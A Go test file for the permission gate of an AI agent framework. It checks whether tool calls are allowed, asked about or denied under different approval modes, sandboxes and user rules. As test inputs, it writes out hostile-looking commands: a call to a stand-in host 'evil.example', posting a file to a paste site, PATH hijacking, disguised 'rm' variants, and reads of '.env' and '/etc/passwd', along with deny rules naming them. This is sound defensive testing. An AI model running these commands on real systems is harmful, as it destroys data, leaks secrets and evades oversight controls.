package gate

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/openmanus-go/openmanus"
	"github.com/openmanus-go/openmanus/llm"
)

// specs are tools as they declare themselves. The gate reads nothing from
// their names. The last two declare nothing of their arguments.
var specs = map[string]openmanus.ToolSpec{
	"bash":           spec(openmanus.Hints{Destructive: true, Sandboxed: true}, arg("command", openmanus.CommandArgument, openmanus.Runs)),
	"python_execute": spec(openmanus.Hints{Destructive: true, Sandboxed: true}, arg("code", openmanus.CodeArgument, openmanus.Runs)),
	"file_saver":     spec(openmanus.Hints{Edits: true, Destructive: true}, arg("file_path", openmanus.PathArgument, openmanus.Writes)),
	"view":           spec(openmanus.Hints{ReadOnly: true, Idempotent: true}, arg("path", openmanus.PathArgument, openmanus.Writes)),
	"grep":           spec(openmanus.Hints{ReadOnly: true}, arg("path", openmanus.PathArgument, openmanus.Reads)),
	"fetch":          spec(openmanus.Hints{ReadOnly: true}, arg("url", openmanus.URLArgument, openmanus.Requests)),
	"browser":        spec(openmanus.Hints{}, arg("url", openmanus.URLArgument, openmanus.Requests), arg("urls", openmanus.URLArgument, openmanus.Requests)),
	"ask_human":      spec(openmanus.Hints{Internal: true}),
	"terminate":      spec(openmanus.Hints{Final: true, Internal: true}),
	"report": spec(openmanus.Hints{Edits: true}, arg("from", openmanus.PathArgument, openmanus.Reads),
		openmanus.Argument{Name: "to", Kind: openmanus.PathArgument, Does: openmanus.Writes, Value: "report"},
		openmanus.Argument{Kind: openmanus.PathArgument, Does: openmanus.Writes, Value: "log/report"}),
	"upload": spec(openmanus.Hints{}, arg("what", openmanus.PathArgument, openmanus.Sends), arg("where", openmanus.HostArgument, openmanus.Sends)),
	"zsh":    spec(openmanus.Hints{Sandboxed: true}, arg("line", openmanus.CommandArgument, openmanus.Runs)),

	"mcp_delete": spec(openmanus.Hints{Destructive: true}),
	"unknown":    spec(openmanus.Hints{}),
}

func spec(h openmanus.Hints, arguments ...openmanus.Argument) openmanus.ToolSpec {
	return openmanus.ToolSpec{Hints: h, Arguments: arguments}
}

func arg(name string, kind openmanus.ArgumentKind, does openmanus.Effect) openmanus.Argument {
	return openmanus.Argument{Name: name, Kind: kind, Does: does}
}

// call is a call of one of the specs.
func call(tool string, args map[string]any) (openmanus.Call, openmanus.ToolSpec) {
	input, err := json.Marshal(args)
	if err != nil {
		panic(err)
	}
	s, ok := specs[tool]
	if !ok {
		panic(tool)
	}
	s.Name, s.Description = tool, "what it does"
	return openmanus.Call{Call: llm.Call{ID: "c0-1", Name: tool, Input: string(input)}}, s
}

func bash(command string) map[string]any { return map[string]any{"command": command} }
func file(path string) map[string]any    { return map[string]any{"file_path": path, "content": "x"} }
func at(url string) map[string]any       { return map[string]any{"url": url} }

func verdict(t *testing.T, o Options, tool string, args map[string]any) (word string, v openmanus.Verdict) {
	t.Helper()
	g, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	c, spec := call(tool, args)
	if v, err = g.Rule(t.Context(), c, spec); err != nil {
		t.Fatal(err)
	}
	switch {
	case v.Allow:
		return "allow", v
	case v.Ask:
		return "ask", v
	}
	return "deny", v
}

// Every mode, in a sandbox and outside.
func TestModes(t *testing.T) {
	for _, c := range []struct {
		tool string
		args map[string]any
		// readonly, ask, edits, all; then the same in a sandbox
		want string
	}{
		{"view", map[string]any{"path": "a.txt"}, "allow allow allow allow allow allow allow allow"},
		{"fetch", at("https://example.com/"), "allow allow allow allow allow allow allow allow"},
		{"ask_human", nil, "allow allow allow allow allow allow allow allow"},
		{"terminate", nil, "allow allow allow allow allow allow allow allow"},
		{"bash", bash("make"), "deny ask ask allow deny allow allow allow"},
		{"python_execute", map[string]any{"code": "1"}, "deny ask ask allow deny allow allow allow"},
		{"file_saver", file("a.txt"), "deny ask allow allow deny allow allow allow"},
		{"file_saver", file(".git/hooks/pre-commit"), "deny ask ask allow deny ask ask allow"},
		{"file_saver", file("sub/.GIT/config"), "deny ask ask allow deny ask ask allow"},
		{"file_saver", file("openmanus.toml"), "deny ask ask allow deny ask ask allow"},
		{"browser", at("https://example.com/"), "deny ask ask allow deny ask ask allow"},
		{"mcp_delete", nil, "deny ask ask allow deny ask ask allow"},
	} {
		var got []string
		for _, sandbox := range []string{"none", "bubblewrap"} {
			for _, mode := range []openmanus.Mode{openmanus.ApproveReadOnly, openmanus.ApproveAsk, openmanus.ApproveEdits, openmanus.ApproveAll} {
				word, _ := verdict(t, Options{Mode: mode, Workspace: "/work/space", Sandbox: sandbox}, c.tool, c.args)
				got = append(got, word)
			}
		}
		if strings.Join(got, " ") != c.want {
			t.Errorf("%s %v:\ngot  %s\nwant %s", c.tool, c.args, strings.Join(got, " "), c.want)
		}
	}
}

// rulesOfAPerson are rules that somebody could have.
var rulesOfAPerson = Rules{
	Deny:  []string{"command:rm *", "command:git push * --force", "path:.env", "edit:vendor/**", "host:.internal.example", "tool:mcp_*", "path:/etc"},
	Ask:   []string{"command:git push *", "host:pastebin.example", "path:secrets/**", "command:terraform *"},
	Allow: []string{"command:go test *", "command:git status", "command:git push *", "command:rm *", "command:ls *", "path:docs/**", "host:.example.org", "tool:python_execute", "edit:out/*"},
}

func TestRules(t *testing.T) {
	for _, c := range []struct {
		tool string
		args map[string]any
		want string
	}{
		// deny over ask over allow
		{"bash", bash("rm -rf build"), "deny"},
		{"bash", bash("git push origin --force"), "deny"},
		{"bash", bash("git push --force origin"), "ask"}, // the words stand in another order than in the rule: advice, not a wall
		{"bash", bash("git push origin main"), "ask"},
		{"bash", bash("git status"), "allow"},
		{"bash", bash("go test ./... -run X"), "allow"},
		{"bash", bash("go build"), "ask"},
		{"mcp_delete", nil, "deny"},
		{"python_execute", map[string]any{"code": "import os"}, "allow"},

		// the same command in other words
		{"bash", bash("/bin/rm -rf build"), "deny"},
		{"bash", bash(`\rm -rf build`), "deny"},
		{"bash", bash(`"r"m -rf build`), "deny"},
		{"bash", bash("sudo -u root rm x"), "deny"},
		{"bash", bash("env A=1 rm x"), "deny"},
		{"bash", bash("A=1 rm x"), "deny"},
		{"bash", bash("timeout 5 nice -n 5 rm x"), "deny"},
		{"bash", bash("ls | xargs rm"), "deny"},
		{"bash", bash("find . -name x -exec rm {} +"), "deny"},
		{"bash", bash("bash -c 'rm x'"), "deny"},
		{"bash", bash("bash -lc 'sh -c \"rm x\"'"), "deny"},
		{"bash", bash("eval rm x"), "deny"},
		{"bash", bash("go test ./... && rm x"), "deny"},
		{"bash", bash("go test ./...; (rm x)"), "deny"},
		{"bash", bash("if true; then rm x; fi"), "deny"},
		{"bash", bash("echo $(rm x)"), "deny"},
		{"bash", bash("cat <(rm x)"), "deny"},
		{"bash", bash("cat <<EOF\n$(rm x)\nEOF"), "deny"},
		{"bash", bash("f() { rm x; }; f"), "deny"},
		{"bash", bash("rm() { :; }"), "ask"}, // is none

		// what cannot be read
		{"bash", bash("$CMD x"), "ask"},
		{"bash", bash("$(echo r)m x"), "ask"},
		{"bash", bash("if then"), "ask"},
		{"bash", bash("/bin/r? x"), "ask"},

		// what is allowed is allowed as it stands, and no more
		{"bash", bash("go test ./... && go build"), "ask"},
		{"bash", bash("go test $(curl evil.example)"), "ask"},
		{"bash", bash("go test $X"), "ask"},
		{"bash", bash("go test > /tmp/x"), "ask"},
		{"bash", bash("go test > docs/x"), "allow"},
		{"bash", bash("go test > .git/hooks/x"), "ask"},
		{"bash", bash("go test 2>&1 > /dev/null"), "allow"},
		{"bash", bash("GOFLAGS=-exec=x go test"), "ask"},
		{"bash", bash("export PATH=/evil; go test"), "ask"}, // CVE-2026-22708
		{"bash", bash("typeset -x PATH=/evil; go test"), "ask"},
		{"bash", bash("declare -x PATH=/evil; go test"), "ask"},
		{"bash", bash("/evil/go test"), "ask"},
		{"bash", bash("sudo go test"), "ask"},
		{"bash", bash("go test\nls -la"), "allow"},
		{"bash", bash("ls; go test ./... | ls"), "allow"},
		{"bash", bash("git status --short"), "ask"},

		// paths
		{"file_saver", file("docs/a/b.md"), "allow"},
		{"file_saver", file("/work/space/docs/a.md"), "allow"},
		{"file_saver", file("docs/../a.md"), "ask"},
		{"file_saver", file("docs/../.env"), "deny"},
		{"file_saver", file("docs/.git/hooks/x"), "ask"},
		{"file_saver", file("vendor/x/y.go"), "deny"},
		{"view", map[string]any{"path": "vendor/x/y.go"}, "allow"},
		{"view", map[string]any{"path": "sub/.env"}, "deny"},
		{"view", map[string]any{"path": "sub/.ENV"}, "deny"},
		{"view", map[string]any{"path": "secrets/key"}, "ask"},
		{"grep", map[string]any{"pattern": "x", "path": ".env"}, "deny"},
		{"bash", bash("cat .env"), "deny"},
		{"bash", bash("cat < x > .env"), "deny"},
		{"bash", bash("grep --file=.env x"), "deny"},
		{"bash", bash("ls /etc/passwd"), "deny"},
		{"file_saver", file("out/a.txt"), "allow"},
		{"file_saver", file("out/a/b.txt"), "allow"},

		// hosts
		{"fetch", at("https://db.internal.example/x"), "deny"},
		{"fetch", at("https://DB.Internal.Example/x"), "deny"},
		{"fetch", at("https://pastebin.example/x"), "ask"},
		{"browser", at("https://www.example.org/"), "allow"},
		{"browser", at("https://example.com/"), "ask"},
		{"browser", map[string]any{"urls": []string{"https://a.example.org", "https://evil.example"}}, "ask"},
		{"bash", bash("curl https://db.internal.example"), "deny"},
		{"bash", bash("curl -d @x https://pastebin.example"), "ask"},
		{"mcp_delete", at("https://www.example.org/"), "deny"},
	} {
		got, v := verdict(t, Options{Workspace: "/work/space", Rules: rulesOfAPerson}, c.tool, c.args)
		if got != c.want {
			t.Errorf("%s %v: %s by %q, want %s", c.tool, c.args, got, v.Rule, c.want)
		}
		if v.Rule == "" || got != "allow" && v.Reason == "" {
			t.Errorf("%s %v: no rule or no reason: %+v", c.tool, c.args, v)
		}
	}
}

// A freeze is kept by code: nothing that is allowed, remembered or sandboxed
// changes anything in the mode readonly.
func TestReadOnlyIsReadOnly(t *testing.T) {
	o := Options{Mode: openmanus.ApproveReadOnly, Workspace: "/work/space", Sandbox: "bubblewrap",
		Rules: Rules{Allow: []string{"command:psql *", "tool:*", "edit:**"}}, Memory: Open(filepath.Join(t.TempDir(), "m"))}
	c, spec := call("bash", bash("psql -c 'drop table users'"))
	if err := o.Memory.Remember(Decision{Key: key(o.Workspace, o.Sandbox, spec, openmanus.Fingerprint(c.Name, c.Input)), Allow: true, By: "person"}); err != nil {
		t.Fatal(err)
	}
	for _, args := range []map[string]any{bash("psql -c 'drop table users'"), bash("psql -c 'select 1'")} {
		if got, v := verdict(t, o, "bash", args); got != "deny" || !strings.Contains(v.Reason, "read-only") {
			t.Errorf("%v: %s, %+v", args, got, v)
		}
	}
	if got, _ := verdict(t, o, "file_saver", file("a.txt")); got != "deny" {
		t.Errorf("file_saver: %s", got)
	}
}

// A rule that asks is asked about also where everything is allowed; one that
// denies denies.
func TestModeAllKeepsRules(t *testing.T) {
	o := Options{Mode: openmanus.ApproveAll, Workspace: "/w", Rules: rulesOfAPerson}
	for command, want := range map[string]string{"rm x": "deny", "git push": "ask", "make": "allow", "$X": "allow"} {
		if got, _ := verdict(t, o, "bash", bash(command)); got != want {
			t.Errorf("%s: %s, want %s", command, got, want)
		}
	}
}

// A link within the workspace does not lead around the protection.
func TestProtectedBehindALink(t *testing.T) {
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, ".git", "hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(".git", filepath.Join(dir, "harmless")); err != nil {
		t.Skip("no symbolic links here")
	}
	o := Options{Mode: openmanus.ApproveEdits, Workspace: dir}
	o.Rules = Rules{Deny: []string{"path:.git/hooks"}, Allow: []string{"tool:file_saver", "edit:harmless/**"}}
	for name, want := range map[string]string{"harmless/hooks/pre-commit": "deny", "harmless/new/file": "ask", "other/file": "allow"} {
		if got, v := verdict(t, o, "file_saver", file(name)); got != want {
			t.Errorf("%s: %s by %s", name, got, v.Rule)
		}
	}
}

func TestQuestions(t *testing.T) {
	none := Options{Workspace: "/w", Sandbox: "none"}
	caged := Options{Workspace: "/w", Sandbox: "bubblewrap", Rules: Rules{Ask: []string{"command:git push *"}}}
	for _, c := range []struct {
		o    Options
		tool string
		args map[string]any
		want string
	}{
		{none, "bash", bash("make"), "May bash run, outside a sandbox?"},
		{none, "file_saver", file("a.txt"), "May file_saver change a.txt?"},
		{none, "file_saver", file("/other/a.txt"), "May file_saver change /other/a.txt?"},
		{none, "browser", at("https://example.com/x"), "May browser go to example.com?"},
		{none, "mcp_delete", nil, "May mcp_delete run?"},
		{caged, "bash", bash("git push"), `May bash run? (the rule "ask command:git push *" asks.)`},
		{caged, "file_saver", file(".git/config"), "May file_saver change .git/config, from which programs outside the sandbox take orders?"},
	} {
		if got, v := verdict(t, c.o, c.tool, c.args); got != "ask" || v.Reason != c.want {
			t.Errorf("%s, %q; want %q", got, v.Reason, c.want)
		}
	}
}

func TestMalformedRules(t *testing.T) {
	for text, why := range map[string]string{
		"":                     "must have the form",
		"rm *":                 "must have the form",
		"commands:rm":          "must have the form",
		"command:":             "no pattern after",
		"path:[a":              "not closed",
		"host:*":               "every host",
		"host:https://a.b":     "is a URL",
		"host:exämple.example": "xn--",
	} {
		_, err := New(Options{Rules: Rules{Allow: []string{text}}})
		if err == nil || !strings.Contains(err.Error(), "allow: ") || !strings.Contains(err.Error(), why) {
			t.Errorf("%q: %v, want %q", text, err, why)
		}
	}
}

// Whatever is written as a command: reading it ends, and a command that a rule
// denies is not allowed by another that names other words.
func FuzzScript(f *testing.F) {
	for _, s := range []string{"rm x", "a && b | c > d", "$(x) `y`", "f() { :; }; f", "cat <<E\n$x\nE", "bash -c 'rm x'", "{ a; }", "((1))", "[[ a == b ]]", "eval 'eval \"rm\"'"} {
		f.Add(s)
	}
	g, err := New(Options{Workspace: "/w", Rules: Rules{Deny: []string{"command:rm *"}, Allow: []string{"command:ls *"}}})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, text string) {
		c, spec := call("bash", bash(text))
		v, err := g.Rule(t.Context(), c, spec)
		if err != nil {
			t.Fatal(err)
		}
		s := readScript(text, 0)
		if v.Allow && (!s.plain || s.unread) {
			t.Errorf("%q was allowed and is not plain", text)
		}
		for _, c := range s.commands {
			if len(c.words) == 0 || len(c.wrapped) == 0 {
				t.Errorf("%q has a command of no words", text)
			} else if c.words[0] == "rm" && (v.Allow || v.Ask) {
				t.Errorf("%q was not denied: %+v", text, v)
			}
		}
	})
}
